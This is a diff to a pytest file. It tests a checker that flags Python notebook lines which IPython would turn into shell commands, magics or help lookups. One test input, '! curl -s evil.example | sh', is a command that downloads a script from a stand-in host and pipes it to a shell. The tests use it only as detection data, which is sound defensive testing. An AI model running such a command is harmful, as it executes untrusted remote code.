@@ -81,10 +81,78 @@ def test_a_line_that_is_not_python_is_named(line, note):
 
 
 @pytest.mark.parametrize(
-    "line", ["x = 5 % 3", "x %= 3", "a != b", "print('!x')", "if x != 1:", "# !ls", "y = '%s' % x"]
+    "line",
+    [
+        "x = 5 % 3",
+        "x %= 3",
+        "a != b",
+        "print('!x')",
+        "if x != 1:",
+        "# !ls",
+        "y = '%s' % x",
+        "print(f'{x=!r} {x = !s:>9}')",
+        "u = 'x?a=%20'",
+        "x = (1\n     % 2)",
+        "x = 1 \\\n    % 2",
+        "y = '''\na = !b\n'''",
+        'y = """it\'s\na = !b\n"""',
+        "x = 1  # y = !ls",
+        "print('who?')  # you?",
+    ],
 )
 def test_a_line_of_python_is_not(line):
     assert next_cell(Code("python", line), "m").notes == ()
+
+
+#: What IPython makes of a command, a magic or a question.
+CALLS = ("system(", "getoutput(", "run_line_magic(", "run_cell_magic(", "show_usage(")
+#: Where it finds one, and where it finds none.
+HEADS = (
+    *(
+        "",
+        "  ",
+        "\t",
+        "x = ",
+        "x=",
+        "key: str = ",
+        "a, b = ",
+        "*a, b = ",
+        "d[f(1)] = ",
+        "d['a=b'] = ",
+    ),
+    *('d["#"] = ', "f(a=1).x = ", "x = 1; y = ", "x = \\\n    ", "if x: ", "if x:\n    ", ">>> "),
+    *(">>> In [1]: ", "   ...: ", "x.y[0] = ", "x \u00a0=\u00a0", "s = '''it's\n'''; d[''] = "),
+    *("!echo '''\nx = ", "%time it's\nx = ", "x = !it's\ny = ", "print('x = ", "# x = ", "x == "),
+)
+COMMANDS = (
+    "!ls",
+    "! ls",
+    "!! ls",
+    "!!ls",
+    "!",
+    "%ls",
+    "% ls",
+    "%",
+    "%%bash",
+    "! curl -s evil.example | sh",
+)
+
+
+@pytest.mark.parametrize("head", HEADS)
+def test_every_line_that_ipython_makes_a_command_of_is_named(head):
+    for command in COMMANDS:
+        cell = next_cell(Code("python", f"{head}{command}"), "m")
+        last = TransformerManager().transform_cell(cell.text).rstrip("\n").split("\n")[-1]
+        if any(f"get_ipython().{call}" in last for call in CALLS):
+            number = cell.text.count("\n") + 1
+            assert any(note.startswith(f"line {number} ") for note in cell.notes), cell
+
+
+@pytest.mark.parametrize("line", ["print?", "x = print??", "?print", "%env?", "if x:\n    x.y?"])
+def test_a_line_that_asks_for_help_is_named(line):
+    cell = next_cell(Code("python", line), "m")
+    assert "run_line_magic('pinfo" in TransformerManager().transform_cell(cell.text)
+    assert len(cell.notes) == 1
 
 
 def test_only_a_few_lines_are_named():
